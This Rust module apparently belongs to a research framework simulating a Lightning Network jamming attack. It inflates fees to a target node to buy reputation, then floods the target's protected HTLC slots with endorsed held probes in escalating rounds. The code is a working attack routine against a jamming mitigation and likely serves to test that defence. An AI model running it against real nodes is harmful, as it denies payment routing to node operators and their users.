//! # Protected-Slot Reputation
//!
//! With the general pool already jammed, endorsed HTLCs only get through if the
//! target lets us into its protected pool, which it does once our reputation
//! covers the opportunity cost of the HTLCs we might hold there.
//!
//! ## Escalation loop
//!
//! 1. **Prepay**: a settled payment between our own nodes whose fee to the
//!    target is inflated by the opportunity cost of a batch of HTLCs
//! 2. **Probe**: a full protected pool of short-held endorsed payments toward
//!    the target's peer, collected under one shared safety timeout
//! 3. **Adjust**: the next batch is the number of probes the target failed,
//!    capped per round
//!
//! The loop ends when the target fails none of our probes, or when paying more
//! stops getting more probes through: the limit is then liquidity, not
//! reputation.

use crate::payment::{PaymentRequest, PendingPayment};
use crate::{
    AttackConfig, AttackContext, AttackError, AttackResult, Msat, NodeId, PaymentReport,
    PhaseExt, Route, REPUTATION_NODE, SINK_NODE, SOURCE_NODE,
};
use serde::{Deserialize, Serialize};
use tokio::time::Instant;
use tracing::{debug, info, warn};

/// Why the escalation loop stopped
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum EscalationStop {
    /// No probe failed at the target
    Complete,
    /// More reputation stopped increasing the probes that got through
    LiquidityLimited,
}

/// What the protected reputation phase achieved
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct EscalationOutcome {
    /// Prepay and probe rounds run
    pub rounds: u64,
    /// HTLCs whose opportunity cost was prepaid, opening batch included
    pub htlcs_paid_for: u64,
    /// Batch sizes chosen after each round from the target's failures
    pub escalations: Vec<u64>,
    /// Total fee overpaid to the target
    pub prepaid_msat: Msat,
    /// Report of the final probe
    pub last_report: Option<PaymentReport>,
    pub stop: EscalationStop,
}

/// Fee worth of one HTLC held in the target's protected pool, scaled from the
/// target's forwarding fee on `route` to its reputation revenue window.
pub fn opportunity_cost(route: &Route, target: &NodeId, config: &AttackConfig) -> AttackResult<Msat> {
    let (incoming, outgoing) = route.hops_around(target)?;
    let cltv_delta = incoming.expiry.saturating_sub(outgoing.expiry);

    let cost = u128::from(incoming.fee_msat)
        * u128::from(config.cltv_cost)
        * u128::from(config.block_interval().as_secs())
        / u128::from(config.revenue_window().as_secs());
    let cost = Msat::try_from(cost).unwrap_or(Msat::MAX);

    debug!(
        "Opportunity cost: {cost} for fee: {} with delta: {cltv_delta}",
        incoming.fee_msat
    );
    Ok(cost)
}

/// Overpay the target for `htlcs` HTLCs of opportunity cost on `probe_route`.
/// Returns the amount overpaid.
pub async fn prepay_htlcs(
    ctx: &AttackContext,
    htlcs: u64,
    probe_route: &Route,
    target: &NodeId,
) -> AttackResult<Msat> {
    let config = ctx.config();
    let cost = opportunity_cost(probe_route, target, config).in_phase("cost per htlc")?;
    let total = cost.saturating_mul(htlcs);

    info!("Paying HTLC opportunity cost: {cost} for {htlcs} HTLCs");

    // Between our own nodes, so that no other link gains from the overpayment.
    let amount = config.prepay_amount_msat;
    let mut route = ctx
        .query_route(SOURCE_NODE, REPUTATION_NODE, amount)
        .await
        .in_phase("0 -> 1")?;

    if route.inflate_fee(target, total) == 0 {
        return Err(AttackError::Route(format!(
            "prepay route does not pass through target {target}"
        )));
    }

    debug!(
        "Prepaying: {total} fee on amount {} with {} total fees",
        route.total_amt_msat, route.total_fees_msat
    );

    let pending = ctx
        .dispatch(PaymentRequest::settled(amount, SOURCE_NODE, REPUTATION_NODE), &route)
        .await
        .in_phase("0 -> 1")?;
    let result = ctx.await_payment(pending).await?;
    result.check_error()?;

    if !result.is_settled() {
        return Err(AttackError::Payment(format!(
            "prepay failed: {}",
            result.failure_reason
        )));
    }

    Ok(total)
}

/// Measure our access to the target's protected pool with one pool's worth of
/// concurrent endorsed probes over `route`.
///
/// A single safety timeout covers dispatch and collection. Probes not yet sent
/// when it fires are skipped; probes still held when it fires are released at
/// once so that no probe is held long enough to cost us reputation.
pub async fn probe_protected_access(ctx: &AttackContext, route: &Route) -> AttackResult<PaymentReport> {
    let config = ctx.config();
    let protected = ctx.slots().protected_count();
    let amount = route.delivered_amount_msat();

    // Released by the timeout, and on any early return.
    let batch = ctx.shutdown().child_token();
    let _release = batch.clone().drop_guard();

    let started = Instant::now();
    let deadline = started + config.probe_timeout();
    let timeout = tokio::time::sleep_until(deadline);
    tokio::pin!(timeout);
    let mut timer_armed = true;

    let mut report = PaymentReport::default();
    let mut probes: Vec<PendingPayment> = Vec::with_capacity(protected);

    for i in 0..protected {
        let request = PaymentRequest::held(
            amount,
            SOURCE_NODE,
            SINK_NODE,
            true,
            config.protected_probe_wait(),
        )
        .with_early_cancel(batch.child_token());

        let pending = ctx
            .dispatch(request, route)
            .await
            .in_phase(format!("probe {i}"))?;
        probes.push(pending);
        report.dispatched += 1;

        if Instant::now() >= deadline {
            warn!("Reached timeout before protected probes were sent: {} sent", i + 1);
            break;
        }
    }

    info!(
        "Dispatched: {} probes in: {:?}",
        report.dispatched,
        started.elapsed()
    );

    for (i, mut pending) in probes.into_iter().enumerate() {
        let outcome = loop {
            tokio::select! {
                biased;
                _ = ctx.shutdown().cancelled() => return Err(AttackError::Cancelled),
                _ = &mut timeout, if timer_armed => {
                    warn!("Reached probe timeout processing result: {i}, cancelling all probes");
                    batch.cancel();
                    timer_armed = false;
                }
                outcome = &mut pending => break outcome,
            }
        };

        let result = outcome.in_phase(format!("probe {i}"))?;
        result.check_error().in_phase(format!("probe {i}"))?;
        report.record(i, &result)?;
    }

    Ok(report)
}

/// Prepay for protected slot access until the target stops failing our probes
/// or more reputation stops helping.
pub async fn escalate_protected_reputation(
    ctx: &AttackContext,
    route: &Route,
    target: &NodeId,
) -> AttackResult<EscalationOutcome> {
    let config = ctx.config();

    // Only a few HTLCs at first; liquidity may stop more from getting through.
    let mut to_pay = config.initial_prepay_batch;
    let mut previous_reached: Option<usize> = None;

    let mut outcome = EscalationOutcome {
        rounds: 0,
        htlcs_paid_for: 0,
        escalations: Vec::new(),
        prepaid_msat: 0,
        last_report: None,
        stop: EscalationStop::Complete,
    };

    loop {
        outcome.rounds += 1;
        let round = outcome.rounds;

        outcome.prepaid_msat += prepay_htlcs(ctx, to_pay, route, target)
            .await
            .in_phase(format!("prepay round {round}"))?;
        outcome.htlcs_paid_for += to_pay;

        let report = probe_protected_access(ctx, route)
            .await
            .in_phase(format!("probe round {round}"))?;
        outcome.last_report = Some(report);

        info!(
            "Protected probes: {report}. Total paid for: {}",
            outcome.htlcs_paid_for
        );

        if report.target_failed == 0 {
            info!("No htlcs failed at target, prepay complete");
            outcome.stop = EscalationStop::Complete;
            return Ok(outcome);
        }

        if let Some(previous) = previous_reached {
            if report.reached_destination <= previous {
                warn!(
                    "Exiting protected probing: {} received <= {previous} on previous attempt",
                    report.reached_destination
                );
                outcome.stop = EscalationStop::LiquidityLimited;
                return Ok(outcome);
            }
        }
        previous_reached = Some(report.reached_destination);

        to_pay = (report.target_failed as u64).min(config.max_prepay_batch);
        outcome.escalations.push(to_pay);
    }
}
